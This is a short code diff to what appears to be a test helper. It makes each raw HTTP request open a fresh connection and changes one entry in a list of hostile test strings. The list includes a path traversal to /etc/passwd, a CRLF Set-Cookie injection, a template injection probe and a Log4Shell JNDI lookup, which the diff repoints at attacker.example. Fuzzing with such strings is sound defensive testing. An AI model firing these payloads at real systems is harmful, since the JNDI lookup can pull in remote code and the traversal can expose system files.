@@ -19,6 +19,8 @@ export function rawRequest(
         port: target.port,
         path: target.pathname + target.search,
         method: options.method ?? 'POST',
+        // A fresh connection each time: a refused request may close its socket.
+        agent: false,
         headers: options.headers,
       },
       (res) => {
@@ -66,7 +68,7 @@ export const HOSTILE_STRINGS = [
   '𝕿𝖍𝖊 🦄 unicode',
   '../../../../etc/passwd',
   '%00%0d%0aSet-Cookie: x=y',
-  '${jndi:ldap://127.0.0.1/a}',
+  '${jndi:ldap://attacker.example/a}',
   '{{7*7}}',
   'a'.repeat(100_000),
 ];
